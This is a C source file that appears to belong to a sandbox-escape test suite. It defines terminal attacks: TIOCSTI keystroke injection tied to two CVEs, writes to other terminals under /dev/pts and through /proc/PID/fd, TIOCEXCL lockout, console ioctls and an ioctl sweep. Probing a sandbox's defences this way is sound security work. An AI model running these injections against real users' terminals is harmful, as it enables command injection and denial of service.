// The caller's terminal, and others' terminals.
#define CLASS "terminal"
#include "attack.h"
#include <sys/ioctl.h>
#include <termios.h>

ATTACK(input_pushed, change, TERMINAL, "TIOCSTI: input that was not typed (CVE-2017-5226)") {
    for (const char *p = "id\n"; *p; p++) say("TIOCSTI", ioctl(0, TIOCSTI, p));
}
ATTACK(input_pushed_64, change, TERMINAL, "TIOCSTI with more bits in the command (CVE-2019-7303)") {
    for (int i = 0; i < 33; i++) say("ioctl", syscall(SYS_ioctl, 0, (1ul << (31 + i)) | TIOCSTI, "x"));
    if (!inside) ioctl(0, TIOCSTI, "x");
}
ATTACK(input_pushed_tty, change, TERMINAL, "TIOCSTI through /dev/tty, /proc/self/fd/0 and /dev/pts/N") {
    const char *ways[] = {"/dev/tty", "/proc/self/fd/0", knows("TTY")};
    for (int i = 0; i < 3; i++) {
        int fd = open(ways[i], O_RDWR | O_NOCTTY);
        say(ways[i], fd);
        say("TIOCSTI", ioctl(fd, TIOCSTI, "x"));
    }
}
ATTACK(input_pasted, change, TERMINAL, "TIOCLINUX: select and paste; natively TIOCSTI, for this is no console") {
    char paste[2] = {3, 0};
    say("TIOCLINUX", ioctl(0, TIOCLINUX, paste));
    if (!inside) ioctl(0, TIOCSTI, "x");
}
ATTACK(exclusive, deny, TERMINAL, "TIOCEXCL: no other process opens the caller's terminal") {
    say("TIOCEXCL", ioctl(0, TIOCEXCL));
    hold();
}
ATTACK(exclusive_left, change, TERMINAL, "TIOCEXCL, left behind at the end") { say("TIOCEXCL", ioctl(0, TIOCEXCL)); }
ATTACK(discipline, change, TERMINAL, "TIOCSETD: another line discipline") {
    for (int n = 1; n < 32; n++)
        if (n != 3) say("TIOCSETD", ioctl(0, TIOCSETD, &n));
    int slip = 3;
    ioctl(0, TIOCSETD, &slip);
}
ATTACK(terminal_chmod, change, TERMINAL, "fchmod and fchown of the caller's terminal") {
    say("fchmod", fchmod(0, 0600)), say("chmod", chmod("/proc/self/fd/0", 0640)), say("chmod", chmod(knows("TTY"), 0644)), say("fchown", fchown(0, 1, 1));
}
ATTACK(terminal_hung_up, change, TERMINAL, "vhangup and TIOCVHANGUP; natively TIOCSTI, for they take privileges") {
    if (!inside) ioctl(0, TIOCSTI, "x");
    say("vhangup", vhangup()), say("TIOCVHANGUP", ioctl(0, 0x5437));
}
ATTACK(terminal_of_others, change, 0, "a write to and TIOCSTI on a terminal that is not the caller's: /dev/pts/N") {
    int fd = open(knows("TTY"), O_RDWR | O_NOCTTY);
    say(knows("TTY"), fd), say("write", write(fd, "PTY-WRITTEN\n", 12));
    say("TIOCSTI", ioctl(fd, TIOCSTI, "x"));
    char path[64];
    for (int n = 0; inside && n < 64; n++) {
        snprintf(path, sizeof path, "/dev/pts/%d", n);
        fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
        if (fd >= 0) {
            ssize_t w = write(fd, "PTY-WRITTEN\n", 12);
            (void)w;
            close(fd);
        }
    }
}
ATTACK(terminal_via_victim, change, 0, "the terminal of a host process through /proc/PID/fd") {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/fd/%d", victim(), VICTIM_PTY);
    int fd = open(path, O_RDWR | O_NOCTTY);
    say(path, fd), say("write", write(fd, "PTY-WRITTEN\n", 12));
}
ATTACK(terminal_peer, change, 0, "a host's terminal by TIOCGPTPEER, /dev/ptmx and devpts names; natively by its name") {
    int master = posix_openpt(O_RDWR | O_NOCTTY);
    unlockpt(master);
    say("peer", ioctl(master, TIOCGPTPEER, O_RDWR | O_NOCTTY));
    int fd = open(knows("TTY"), O_RDWR | O_NOCTTY);
    say("write", write(fd, "PTY-WRITTEN\n", 12));
    fd = open("/dev/tty", O_RDWR), say("/dev/tty", fd);
}
ATTACK(console, change, TERMINAL, "TIOCCONS, KDSETMODE, VT_ACTIVATE and KDSKBENT; natively TIOCSTI, for this is no console") {
    if (!inside) ioctl(0, TIOCSTI, "x");
    int arguments[] = {0x541d, 0x4b3a, 0x5606, 0x4b47, 0x4b30, 0x4b4c};
    for (int i = 0; i < 6; i++) say("ioctl", ioctl(0, (unsigned)arguments[i], 1));
    for (int n = 0; n < 8; n++) {
        char path[32];
        snprintf(path, sizeof path, "/dev/tty%d", n);
        say(path, open(path, O_RDWR | O_NOCTTY));
    }
}
ATTACK(every_ioctl, change, TERMINAL, "every terminal command from 0x5400 to 0x5480 with an argument of zeros; natively those that change something") {
    static char zeros[4096];
    for (unsigned c = 0x5400; c <= 0x5480; c++) {
        if (c == TCSBRK || c == TIOCSBRK || c == TCXONC || c == TIOCMIWAIT || c == TIOCNOTTY) continue;
        ioctl(0, c, zeros);
        memset(zeros, 0, sizeof zeros);
    }
    if (!inside) ioctl(0, TIOCSTI, "x");
    tcsetattr(0, TCSANOW, &(struct termios){0});
}
